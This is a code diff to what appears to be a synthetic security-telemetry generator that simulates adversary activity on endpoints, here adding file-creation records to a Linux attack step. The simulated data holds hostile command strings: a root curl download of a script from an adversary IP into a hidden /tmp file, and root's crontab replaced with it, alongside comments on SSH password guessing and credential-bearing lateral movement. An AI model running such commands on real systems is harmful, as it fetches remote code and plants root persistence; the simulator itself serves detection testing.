@@ -4,7 +4,7 @@
 // net group, runs the renamed schtasks.exe with the DC, account and password on its command
 // line, connects to the DC, and svc_iis logs on over the network with NTLM from the same host.
 // Linux: passwords for adm_peter guessed over SSH from outside until one is accepted, then sudo
-// curl of a script and a crontab replaced.
+// curl of a script to /tmp/.k and root's crontab replaced with it.
 import { Rng } from "../random";
 import { type Activity, type AnchorProc, type EndpointActivity, type Logon, type SynthProcess } from "./activity";
 import { linuxPid, startLinuxProcess } from "./linux-activity";
@@ -99,10 +99,10 @@ export function linuxAdversaryStep(e: EndpointActivity, k: number): Activity | u
   const parent = session();
   const parentAnchor: AnchorProc = { pid: parent.pid, name: parent.name, image: parent.image, commandLine: parent.commandLine, user: parent.user, guid: parent.guid };
   if (step === 7) {
-    const cmd = `/usr/bin/curl -fsSL http://${ADVERSARY.externalIp}/k.sh -o /tmp/.k`;
+    const cmd = `/usr/bin/curl -fsSL http://${ADVERSARY.externalIp}/k.sh -o ${ADVERSARY.dropped}`;
     const proc = startLinuxProcess(e, k, { exe: "/usr/bin/curl", commandLine: cmd, user: "root", parent: parentAnchor, lifeMs: Math.min(4_000, e.shortMs) });
-    return { ...base, file: "auth", program: "sudo", pid: 0, message: `  ${ADVERSARY.admin} : TTY=pts/0 ; PWD=/home/${ADVERSARY.admin} ; USER=root ; COMMAND=${cmd}`, proc };
+    return { ...base, file: "auth", program: "sudo", pid: 0, message: `  ${ADVERSARY.admin} : TTY=pts/0 ; PWD=/home/${ADVERSARY.admin} ; USER=root ; COMMAND=${cmd}`, proc, files: [{ action: "created", path: ADVERSARY.dropped, size: 1893 }] };
   }
-  const proc = startLinuxProcess(e, k, { exe: "/usr/bin/crontab", commandLine: "crontab /tmp/.k", user: "root", parent: parentAnchor, lifeMs: Math.min(2_000, e.shortMs) });
-  return { ...base, file: "syslog", program: "crontab", pid: proc.pid, message: "(root) REPLACE (root)", proc };
+  const proc = startLinuxProcess(e, k, { exe: "/usr/bin/crontab", commandLine: `crontab ${ADVERSARY.dropped}`, user: "root", parent: parentAnchor, lifeMs: Math.min(2_000, e.shortMs) });
+  return { ...base, file: "syslog", program: "crontab", pid: proc.pid, message: "(root) REPLACE (root)", proc, files: [{ action: "modified", path: ADVERSARY.crontab, size: 311 }] };
 }
